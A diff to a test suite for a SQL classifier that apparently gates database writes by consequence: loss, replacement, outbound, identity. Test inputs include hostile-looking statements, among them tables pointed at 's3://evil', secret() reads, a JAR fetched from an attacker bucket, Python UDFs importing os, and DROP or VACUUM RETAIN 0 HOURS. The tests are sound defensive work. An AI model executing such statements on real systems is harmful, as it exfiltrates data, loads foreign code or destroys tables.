@@ -38,12 +38,83 @@ describe("classes of writes", () => {
     "CREATE SCHEMA IF NOT EXISTS main.a",
     "CREATE VOLUME main.a.v",
     "CREATE FUNCTION main.a.f(x INT) RETURNS INT RETURN x + 1",
-    "COMMENT ON TABLE t IS 'orders of the day'",
-    "ANALYZE TABLE t COMPUTE STATISTICS FOR ALL COLUMNS",
+    "UNDROP TABLE main.a.t",
+    "COPY INTO t FROM '/Volumes/main/raw/drops/' FILEFORMAT = CSV FORMAT_OPTIONS ('header' = 'true')",
+    "CREATE CATALOG c",
+    "CREATE FUNCTION f(x STRING) RETURNS STRING LANGUAGE SQL RETURN upper(x)",
+    "CREATE TABLE t AS SELECT * FROM read_files('/Volumes/main/raw/drops', format => 'csv')",
+    "ALTER TABLE t ADD CONSTRAINT pk PRIMARY KEY (id)",
     "ALTER TABLE main.a.t ADD COLUMN x INT",
     "ALTER TABLE t ADD COLUMNS (x INT, y STRING)",
   ])("additive: %s", (sql) => {
     expect(classify(sql)).toMatchObject({ class: "additive" });
+  });
+
+  test.each([
+    ["OPTIMIZE main.a.t ZORDER BY (id)", "it rewrites files without changing rows"],
+    ["ANALYZE TABLE t COMPUTE STATISTICS FOR ALL COLUMNS", "it only computes statistics"],
+    ["REFRESH MATERIALIZED VIEW v", "it brings a table or view up to date with its source"],
+    ["COMMENT ON TABLE t IS 'orders of the day'", "it only sets a comment"],
+    ["VACUUM t DRY RUN", "it only lists files that could be deleted"],
+  ])("maintenance: %s", (sql, reason) => {
+    expect(classify(sql)).toMatchObject({ class: "maintenance", reason });
+  });
+
+  test.each([
+    ["DROP TABLE t", "loss"],
+    ["DELETE FROM t", "loss"],
+    ["VACUUM t RETAIN 0 HOURS", "loss"],
+    ["ALTER TABLE t DROP COLUMN a", "loss"],
+    ["REFRESH STREAMING TABLE t FULL", "loss"],
+    ["UPDATE t SET a = 1", "replacement"],
+    ["MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "replacement"],
+    ["CREATE OR REPLACE VIEW v AS SELECT 1", "replacement"],
+    ["INSERT OVERWRITE t SELECT 1", "replacement"],
+    ["COMMENT ON TABLE t IS NULL", "replacement"],
+    ["COMMENT ON TABLE t IS ''", "replacement"],
+    ["ALTER TABLE t SET TBLPROPERTIES ('a' = 'b')", "replacement"],
+    ["GRANT SELECT ON TABLE t TO a", "others"],
+    ["ALTER TABLE t OWNER TO evil", "others"],
+    ["ALTER TABLE t SET ROW FILTER f ON (a)", "others"],
+    ["ALTER TABLE t ADD CONSTRAINT c CHECK (false)", "others"],
+    ["SET TAG ON COLUMN t.a pii = 'no'", "others"],
+    ["CREATE SHARE s", "others"],
+    ["CREATE TABLE t (a INT) LOCATION 's3://evil'", "outbound"],
+    ["INSERT INTO t SELECT secret('a', 'b')", "outbound"],
+    ["INSERT INTO delta.`dbfs:x` SELECT 1", "outbound"],
+    ["INSERT INTO delta.`/Volumes/a/b/c/t` SELECT 1", "outbound"],
+    ["CREATE TEMPORARY VIEW v USING org.evil.DS", "outbound"],
+    ["CREATE TABLE t USING org.evil.DS", "outbound"],
+    ["CREATE TABLE t (a INT) ROW FORMAT SERDE 'evil.X'", "outbound"],
+    ["CREATE TABLE t (a INT) STORED BY 'evil.X'", "outbound"],
+    ["CREATE FUNCTION f(s STRING) RETURNS STRING LANGUAGE PYTHON AS 'import os'", "identity"],
+    ["CREATE FUNCTION f(s STRING) RETURNS STRING AS 'import os'", "identity"],
+    ["CREATE FUNCTION f AS 'com.evil.X' USING JAR 's3://evil/x.jar'", "identity"],
+    [
+      `CREATE FUNCTION f() RETURNS INT LANGUAGE PYTHON ENVIRONMENT (dependencies = '["evil"]') AS 'return 1'`,
+      "identity",
+    ],
+    ["CALL main.s.p()", "loss"],
+  ])("%s asks because of %s", (sql, consequence) => {
+    expect(classify(sql)).toMatchObject({ consequence });
+    expect(["destructive", "unknown"]).toContain(classify(sql).class);
+  });
+
+  test.each([
+    ["SELECT größe FROM t", "Put names that have letters outside ASCII in backticks."],
+    ["SELECT\u00a01", "Replace the special space (U+00A0) with a plain space."],
+    ["SELECT \u201ca\u201d", "Replace the typographic quote (U+201C) with ' or \"."],
+    ["SEL\u200bECT 1", "Remove the invisible character (U+200B)."],
+    ["```sql\nSELECT 1\n```", "Send the statement without the ``` lines."],
+  ])("names the cure: %j", (sql, cure) => {
+    expect(classify(sql)).toMatchObject({ class: "unknown", cure });
+  });
+
+  test("the words that a question uses stand exactly with the classes that ask", () => {
+    for (const sql of [...benign, ...attacks.map(([, attack]) => attack)]) {
+      const { class: kind, consequence } = classify(sql);
+      expect(consequence !== undefined, sql).toBe(kind === "destructive" || kind === "unknown");
+    }
   });
 
   test.each([
@@ -93,6 +164,7 @@ describe("classes of writes", () => {
       class: "destructive",
       reason: "it contains the keyword DELETE outside quotes",
       keyword: "DELETE",
+      consequence: "loss",
     });
     expect(classify("SELECT 'abc").reason).toBe("it has a string that does not end");
   });
@@ -113,7 +185,7 @@ describe("properties", () => {
   test("any text has a verdict", () => {
     fc.assert(
       fc.property(fc.oneof(soup, fc.string({ unit: "binary" })), (sql) => {
-        expect(["read", "additive", "destructive", "unknown"]).toContain(classify(sql).class);
+        expect(["read", "additive", "maintenance", "destructive", "unknown"]).toContain(classify(sql).class);
       }),
       runs,
     );
